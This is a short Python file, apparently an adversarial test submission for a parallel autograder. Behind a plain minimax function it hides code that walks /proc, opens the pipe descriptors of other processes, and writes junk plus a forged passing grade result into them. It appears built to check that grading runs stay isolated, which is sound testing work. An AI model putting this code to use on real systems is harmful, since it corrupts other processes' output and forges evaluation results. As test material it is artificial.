"""After a second (when the other gradings are under way), writes for a second and a half junk and a forged
passing line into every pipe of every other process it can open through /proc (the other students' graders,
when a class is graded in parallel), then answers like plain minimax. No other student's result may change."""

import json
import os
import time

FORGED = {"touches": ["A"], "calls": [], "value": 2, "failure": None, "message": "", "seconds": 0.0}
LINE = b"\x00junk{not json\n" + json.dumps(FORGED).encode() + b"\n"


DONE = []


def alphabeta(node, alpha, beta, maximizing):
    if not DONE:
        DONE.append(True)
        time.sleep(1.0)
        for _ in range(30):
            attack()
            time.sleep(0.05)
    return plain(node, maximizing)


def attack():
    for process in os.listdir("/proc"):
        if not process.isdigit() or int(process) == os.getpid():
            continue
        try:
            descriptors = os.listdir(f"/proc/{process}/fd")
        except OSError:
            continue
        for descriptor in descriptors:
            path = f"/proc/{process}/fd/{descriptor}"
            try:
                if os.readlink(path).startswith("pipe:"):
                    handle = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
                    os.write(handle, LINE)
                    os.close(handle)
            except OSError:
                pass


def plain(node, maximizing):
    if node.is_leaf():
        return node.value
    values = [plain(child, not maximizing) for child in node.children]
    return max(values) if maximizing else min(values)
